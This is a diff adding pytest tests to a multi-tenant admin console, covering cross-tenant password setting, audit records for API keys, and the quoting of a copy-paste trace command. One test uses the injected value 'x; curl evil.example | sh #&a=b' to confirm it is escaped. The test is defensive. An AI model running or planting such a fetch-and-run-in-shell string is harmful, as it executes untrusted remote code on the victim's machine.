@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import re
 
 import pytest
@@ -146,3 +147,43 @@ def test_a_reason_is_asked_for(desk: Desk) -> None:
     answer = desk.send("/t/beta/people/add", {"email": "eve@example.com", "name": "Eve", "role": "auditor"})
     assert answer.status_code == 422
     assert "console.reason_missing" in answer.text
+
+
+def test_who_runs_one_tenant_sets_no_password_that_opens_another(desk: Desk) -> None:
+    desk.person("ada@example.com", (Role.ADMINISTRATOR, "alpha"))
+    desk.log_in("ada@example.com")
+    assert 'name="password"' not in desk.get("/t/alpha/people").text
+    new = {"email": "victor@example.com", "name": "Victor", "role": "auditor", "reason": "joins"}
+    refused = desk.send("/t/alpha/people/add", {**new, "password": "known to ada alone"})
+    assert refused.status_code == 403
+    assert desk.runtime.services.people.find(email="victor@example.com") is None
+    assert desk.send("/t/alpha/people/add", new).status_code == 303
+    desk.person("olga@example.com", (Role.ADMINISTRATOR, "*"))
+    desk.log_in("olga@example.com")
+    assert 'name="password"' in desk.get("/t/alpha/people").text
+    made = desk.send("/t/alpha/people/add", {**new, "email": "vera@example.com", "password": "a long first one"})
+    assert made.status_code == 303
+    assert desk.log_in("vera@example.com", "a long first one").status_code == 303
+
+
+def test_a_command_to_copy_is_one_command_whatever_was_searched(desk: Desk) -> None:
+    desk.person("ada@example.com", (Role.AUDITOR, "beta"))
+    desk.log_in("ada@example.com")
+    shown = html.unescape(desk.client.get("/t/beta/trace", params={"id": "x; curl evil.example | sh #&a=b"}).text)
+    assert "revline trace 'x; curl evil.example | sh #&a=b' --tenant beta" in shown
+    assert "GET /v1/trace?value=x%3B+curl+evil.example+%7C+sh+%23%26a%3Db" in shown
+
+
+def test_making_and_ending_a_key_is_on_record(desk: Desk) -> None:
+    ada = desk.person("ada@example.com", (Role.ADMINISTRATOR, "beta"))
+    desk.log_in("ada@example.com")
+    desk.send("/t/beta/keys/issue", {"role": "ingest", "days": "30"})
+    (key,) = desk.runtime.services.access.keys(tenant_id="beta")
+    desk.send("/t/beta/keys/revoke", {"key": key.key_id, "reason": "lost it"})
+    found = [
+        (one.action, one.role, one.actor, one.reason)
+        for one in desk.runtime.services.people.changes(tenant_id="beta")
+        if one.person_id == f"key:{key.key_id}"
+    ]
+    assert found == [("key revoked", "ingest", ada.actor, "lost it"), ("key made", "ingest", ada.actor, "")]
+    assert "key made" in desk.get("/t/beta/people").text
